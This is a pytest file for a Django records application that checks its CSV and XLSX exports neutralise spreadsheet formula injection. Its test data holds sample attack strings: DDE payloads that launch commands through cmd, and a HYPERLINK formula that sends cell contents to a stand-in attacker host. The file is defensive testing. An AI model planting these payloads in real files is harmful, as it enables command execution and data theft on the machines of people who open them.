"""No formula injection (issue 11, item 5): text a user typed that begins with `=`, `+`, `-`, `@`, a
tab or a carriage return is written as text in every XLSX and neutralised in every CSV we produce;
numbers (a negative value) stay numbers. Each export is downloaded and reopened."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from thidua.awards.models import AwardRecord, AwardType
from thidua.lib.cells import csv_row, csv_unescape, looks_like_formula, xlsx_row
from thidua.orgs.models import Person, Unit
from thidua.scoring.models import Criterion, Scorecard, ScoreEntry
from thidua.web.tests.test_export_visibility import _downloads

LINK = '=HYPERLINK("http://attacker.example/?d="&A2,"Xem")'
PLANTED = {
    "unit": "=cmd|' /C calc'!A0",
    "person": "+Trần Văn Độc",
    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "authority": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "criterion": LINK,
    "comment": "=1+1",
}


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_formula_like_text_is_recognised(value) -> None:
    assert looks_like_formula(value)
    assert csv_row([value]) == ["'" + value]
    assert csv_unescape("'" + value) == value


@pytest.mark.parametrize("value", [-3, -2.5, 0, "Sở Nội vụ", "a=b", "'=1", None, ""])
def test_other_values_are_left_alone(value) -> None:
    assert not looks_like_formula(value)
    assert csv_row([value]) == [value]


def test_written_xlsx_keeps_text_as_text_and_numbers_as_numbers() -> None:
    for write_only in (False, True):
        workbook = Workbook(write_only=write_only)
        sheet = workbook.create_sheet("x")
        sheet.append(xlsx_row(sheet, ["=1+1", -2.5, -3, "-4", "bình thường"]))
        out = io.BytesIO()
        workbook.save(out)
        cells = load_workbook(io.BytesIO(out.getvalue()))["x"][1]
        assert [(c.value, c.data_type) for c in cells] == [
            ("=1+1", "s"),
            (-2.5, "n"),
            (-3, "n"),
            ("-4", "s"),
            ("bình thường", "s"),
        ]
        assert cells[0].quotePrefix and cells[3].quotePrefix and not cells[4].quotePrefix


def _plant(world: Any) -> None:
    Unit.objects.filter(pk=world.member_sub_unit.pk).update(name=PLANTED["unit"])
    Person.objects.filter(pk=world.member_person.pk).update(full_name=PLANTED["person"])
    ldtt = AwardType.objects.get(code="LDTT")
    AwardRecord.objects.filter(person=world.member_person).update(
        note=PLANTED["note"], decision_authority=PLANTED["authority"], decision_number=PLANTED["tab"]
    )
    AwardRecord.objects.create(award_type=ldtt, year=2022, unit=world.member_unit, note=PLANTED["cr"])
    card = Scorecard.objects.get(unit=world.member_unit)
    criterion = Criterion.objects.get(table=card.table, code="I.1")
    Criterion.objects.filter(pk=criterion.pk).update(text=PLANTED["criterion"])
    ScoreEntry.objects.update_or_create(
        scorecard=card, criterion=criterion, defaults={"comment": PLANTED["comment"]}
    )


def _xlsx_cells(content: bytes) -> list[Any]:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_every_export_writes_planted_formulas_as_text(world, login) -> None:
    downloads = _downloads(world)
    _plant(world)
    client = login(world.user("board"))
    found: set[str] = set()
    numbers = 0
    for urls in downloads.values():
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, url
            if url.endswith(".csv"):
                rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
                for cell in (cell for row in rows for cell in row):
                    assert not looks_like_formula(cell), (url, cell)
                    if csv_unescape(cell) in PLANTED.values():
                        found.add(csv_unescape(cell))
                        assert cell.startswith("'")
                continue
            if "word/document.xml" in zipfile.ZipFile(io.BytesIO(response.content)).namelist():
                continue  # a Word paper (minutes, templates): no cells, no formulas
            for cell in _xlsx_cells(response.content):
                assert cell.data_type != "f", (url, cell.coordinate, cell.value)
                if cell.value in PLANTED.values():
                    found.add(cell.value)
                    assert cell.data_type == "s" and cell.quotePrefix, (url, cell.value)
                numbers += isinstance(cell.value, int | float)
    # The board's person name and unit name go into the award history, the people, units and batch
    # exports; the scorecard holds the criterion and the comment.
    assert found == set(PLANTED.values())
    assert numbers > 0


def test_csv_export_imports_back_as_typed(world, login) -> None:
    from thidua.awards.sheets import SHEET, read_csv_rows

    _downloads(world)
    _plant(world)
    content = login(world.user("board")).get(reverse("awards:history_file", args=["export.csv"])).content
    upload = io.BytesIO(content)
    upload.name = "history.csv"
    rows, errors = read_csv_rows(upload, SHEET.columns)
    assert not errors
    notes = {row["note"] for _number, row in rows}
    assert PLANTED["note"] in notes and PLANTED["cr"] in notes
